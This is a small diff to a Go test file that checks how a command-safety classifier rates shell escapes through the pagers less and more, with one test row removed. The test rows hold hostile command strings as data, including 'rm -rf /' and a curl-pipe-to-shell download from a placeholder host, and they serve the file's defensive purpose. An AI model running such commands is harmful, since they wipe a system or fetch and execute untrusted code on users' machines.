@@ -20,7 +20,6 @@ func TestLessCommands(t *testing.T) {
 		{"more '+!rm -rf /' f", B, ruleRmRfRoot},
 		{"less '+!curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
 		{"less '+!rm f' f", M, ruleRm},
-		{"less +!rm f", S, ""},
 		{"less '+!ls -la' f", S, ""},
 		{"less +!date f", S, ""},
 		{"less '+!' f", S, ""},
